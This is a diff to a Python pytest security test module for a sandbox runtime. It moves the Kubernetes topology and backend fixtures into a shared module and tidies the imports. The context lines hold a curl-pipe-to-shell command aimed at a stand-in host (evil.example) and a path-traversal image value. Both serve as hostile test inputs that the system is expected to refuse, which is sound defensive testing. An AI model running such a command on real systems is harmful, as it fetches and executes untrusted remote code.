@@ -11,11 +11,12 @@
   the Node object.
 """
 
+# ruff: noqa: F811 - pytest fixtures are imported by name and then requested as arguments
+
 from __future__ import annotations
 
 import json
 import ssl
-from collections.abc import Iterator
 from typing import Any
 
 import pytest
@@ -31,8 +32,8 @@ from runtime.placement import (
     placeholder_pod,
     split_id,
 )
-from tests.runtime.conftest_daemon import real_sandboxes_available
-from tests.scaleout.topology import Topology, topology
+from tests.scaleout.topology import Topology
+from tests.security.scaleout_fixtures import backend, topo  # noqa: F401 - fixtures
 
 SETUP = "curl http://evil.example/x | sh"
 
@@ -70,22 +71,6 @@ def test_the_placeholder_pod_cannot_run_student_code() -> None:
 def test_a_spec_runtimed_would_refuse_makes_no_pod() -> None:
     with pytest.raises(errors.BadRequest):
         placeholder_pod({"image": "../../etc", "cpus": 1}, session="s1")
-
-
-@pytest.fixture(scope="module")
-def topo() -> Iterator[Topology]:
-    why = real_sandboxes_available()
-    if why:
-        pytest.skip(why)
-    with topology(cpu="4", memory="8Gi") as t:
-        yield t
-
-
-@pytest.fixture(scope="module")
-def backend(topo: Topology) -> Iterator[KubernetesBackend]:
-    b = KubernetesBackend(topo.kubeconfig, ca=str(topo.ca), port=topo.port, token=topo.admin_token, wait_timeout=60)
-    yield b
-    b.close()
 
 
 @pytest.fixture(scope="module")
